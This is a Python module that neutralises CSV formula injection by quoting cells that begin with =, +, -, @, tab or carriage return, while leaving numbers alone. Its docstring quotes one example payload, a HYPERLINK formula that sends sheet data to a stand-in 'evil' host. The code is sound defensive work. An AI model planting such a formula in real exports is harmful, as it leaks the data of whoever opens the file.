"""Cells that a spreadsheet opens as text, never as a formula (OWASP's CSV injection rule).

A cell of a CSV export that begins with `=`, `+`, `-`, `@`, a tab or a carriage return
is run as a formula by Excel and LibreOffice when a person opens the file: a focal
point's title `=HYPERLINK("http://evil/?"&A1, "click")` would send the sheet away. Such
text gets a leading `'`, which spreadsheets show as text; numbers keep their sign
(`-3` stays the number -3). XLSX files get the same treatment through the cell type.
"""

from __future__ import annotations

import csv
import math
from collections.abc import Iterable
from typing import Any, Final, TextIO

FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def safe_cell(value: Any) -> Any:
    """`value` as a cell: text that a spreadsheet would run as a formula, quoted with `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _is_number(value):
        return "'" + value
    return value


class SafeWriter:
    """A `csv.writer` whose every cell passes through `safe_cell`."""

    def __init__(self, handle: TextIO, **options: Any) -> None:
        options.setdefault("lineterminator", "\n")
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
